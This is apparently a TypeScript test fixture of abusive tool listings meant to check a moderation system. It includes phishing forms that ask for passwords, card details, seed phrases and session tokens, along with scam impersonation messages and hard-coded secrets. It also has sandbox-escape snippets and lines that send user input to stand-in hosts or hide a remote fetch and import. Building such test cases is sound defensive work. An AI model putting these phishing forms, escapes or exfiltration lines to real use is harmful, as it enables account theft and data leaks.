import { aField, aListing, anOutput, type BadListing, codeListing, formListing, joined } from './listing-fixture.ts'

const base64 = (text: string): string => Buffer.from(text).toString('base64')

/** More that somebody should look at, written before the rules were mended and run only afterwards. */
export const UNSEEN_BAD_LISTINGS: readonly BadListing[] = [
  [
    'credentials',
    formListing('Facebook memories', 'Your best pictures of ten years.', [
      aField('who', 'Facebook e-mail or phone', { type: 'tel' }),
      aField('word', 'Passcode', { type: 'password' }),
    ]),
  ],
  [
    'credentials',
    formListing('Robux for everybody', 'How many Robux you get today.', [
      ...['Roblox username', 'Paste your .ROBLOSECURITY cookie'],
    ]),
  ],
  ['credentials', formListing('Coin age', 'Days since you bought.', ['Private key or keystore file of MetaMask'])],
  [
    'credentials',
    formListing('Miles saved', 'Value of your miles.', [
      'Frequent flyer number',
      'Card number',
      'Expiry (MM/YY)',
      'CVV',
    ]),
  ],
  [
    'credentials',
    formListing('WhatsApp colours', 'Another colour for your chats.', [
      aField('text', 'Number', { type: 'tel' }),
      aField('code', 'Code', { help: 'Type the 6 digits that WhatsApp has just sent to you' }),
    ]),
  ],
  [
    'credentials',
    formListing('Sicherheits-Check', 'Prüft, ob Ihr Konto sicher ist.', ['E-Mail-Adresse', 'Ihr aktuelles Kennwort']),
  ],
  ['credentials', formListing('Compte bloqué ?', 'Débloquez votre compte.', ['Identifiant', 'Mot de passe'])],
  ['credentials', formListing('Кошелёк', 'Баланс кошелька.', ['Введите сид-фразу из 12 слов'])],
  ['credentials', formListing('Saldo', 'Calcula tu saldo.', ['Número de tarjeta', 'Clave de cajero (PIN)'])],
  [
    'credentials',
    formListing('Who am I', 'A game about your family.', [
      ...['Mother’s maiden name', 'Name of your first pet', 'Date of birth', 'Last four of your SSN'],
    ]),
  ],
  [
    'credentials',
    formListing('Streaming quality', 'Which quality your line can carry.', [
      aField('a', 'Account', { placeholder: 'Your Netflix login' }),
      aField('b', 'P a s s w o r d'),
    ]),
  ],
  [
    'credentials',
    formListing('Discord age', 'When an account was made.', [
      aField('text', 'Discord token', { help: 'Open the console and paste what localStorage.token says' }),
    ]),
  ],
  [
    'impersonation',
    codeListing(
      'Disk space',
      'How much is left.',
      "  return { result: 'Ihr Konto wurde gesperrt. Bitte bestätigen Sie Ihre Daten unter sparkasse-sicher.top' }",
    ),
  ],
  [
    'impersonation',
    aListing({
      title: 'Days until payday',
      description: 'Counts days.',
      outputs: [anOutput('"Amazon: your account has been suspended. Verify your payment at the number below."')],
    }),
  ],
  [
    'secret',
    codeListing(
      'Table of scores',
      'Sorts scores.',
      `  login('reporter', { passwd: '${joined('Gr8', '$core!2024')}' })`,
    ),
  ],
  [
    'secret',
    codeListing(
      'Town of a number',
      'Says where a number is from.',
      `  const HEADERS = { 'X-RapidAPI-Key': '${joined('3f9a2c7be1msh8d40', 'c55e17ab2f9p1e6a3djsn4b8c0d2f6a1e')}' }`,
    ),
  ],
  [
    'secret',
    codeListing(
      'Short links',
      'Shortens.',
      `  const to = 'https://api.lnk.dev/v1?access_token=${joined('9fKq2ZtV', 'b7LxN4cWm3Rd')}&u='`,
    ),
  ],
  [
    'secret',
    codeListing(
      'Bot words',
      'Answers.',
      `  const where = 'https://discord.com/api/webhooks/${joined('1098765432101234567/', 'aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5z')}'`,
    ),
  ],
  [
    'secret',
    aListing({
      title: 'Menu of the week',
      description: `Made with our kitchen API, key ${joined('kx_9f2Lq8Zt', 'Vb7NcR4wYd3M')}.`,
    }),
  ],
  [
    'secret',
    aListing({
      title: 'Lines to list',
      description: 'Makes a list.',
      examples: [
        { title: 'Ours', input: { text: `DB_PASSWORD=${joined('h7Kp', '!2vQz9Lw')}` }, output: {}, source: 'our .env' },
      ],
    }),
  ],
  [
    'secret',
    codeListing('Cipher', 'Hides a text.', `  const aesKey = '${joined('2b7e8f1c9d3a4065', 'b1c2d9e4f7a8036e')}'`),
  ],
  [
    'sandbox',
    codeListing(
      'Alphabet',
      'Sorts letters.',
      "  const F = Reflect.getPrototypeOf(async () => 0)['constr' + 'uctor']",
      "  return F('x')()",
    ),
  ],
  [
    'sandbox',
    codeListing('Pairs', 'Makes pairs.', '  const all = (function () { return this })()', '  all[input.a](input.b)'),
  ],
  ['network', codeListing('Trim', 'Trims.', "  Object.assign(new Image(), { src: '//p.trim.click/?' + input.text })")],
  [
    'network',
    codeListing(
      'Bold',
      'Makes text bold.',
      '  return { result: `<b>\x24{input.text}</b><iframe src="//b.bold.click/\x24{input.text}"></iframe>` }',
    ),
  ],
  [
    'network',
    codeListing(
      'Tables',
      'Makes tables.',
      '  return { result: \'<form action="https://t.tables.icu/save" method=post>\' + input.text }',
    ),
  ],
  [
    'obfuscated',
    codeListing(
      'Halves',
      'Halves a number.',
      "  const n = 'hctef'.split('').reverse().join('')",
      '  return top[n]("//h.dev")',
    ),
  ],
  [
    'obfuscated',
    codeListing(
      'Thirds',
      'Thirds of a number.',
      `  const z = atob('${base64('import("//t.dev/x.js")')}')`,
      '  return { result: z }',
    ),
  ],
  ['impersonation', aListing({ title: 'Mіcrosоft Teams recovery', description: 'Get back in.' })],
  ['impersonation', aListing({ title: 'Arnazon parcel help line', description: 'Where is it?' })],
  ['impersonation', aListing({ title: 'HSBC fraud department form', description: 'Tell us what happened.' })],
  ['impersonation', aListing({ title: 'Helper', description: 'Published by the Fettle team for all members.' })],
  [
    'spam',
    aListing({
      title: 'Zählt Wörter',
      description: 'Kredit ohne Schufa, sofort ausgezahlt! Jetzt auf schnellgeld.shop beantragen.',
    }),
  ],
  [
    'spam',
    aListing({
      title: 'Cuenta palabras',
      description: 'Gana dinero desde casa, escribe por WhatsApp al +34 600 123 456.',
    }),
  ],
  [
    'spam',
    aListing({
      title: 'Grams to ounces',
      description: 'Converts weights.',
      examples: [{ title: 'One', input: {}, output: {}, source: 'Buy 1000 real followers cheap: likeboost.pro' }],
    }),
  ],
  [
    'spam',
    aListing({ title: 'Ounces to grams', description: 'Converts weights.' }),
    'Free spins and a 200% casino bonus: luckywin.bet',
  ],
]
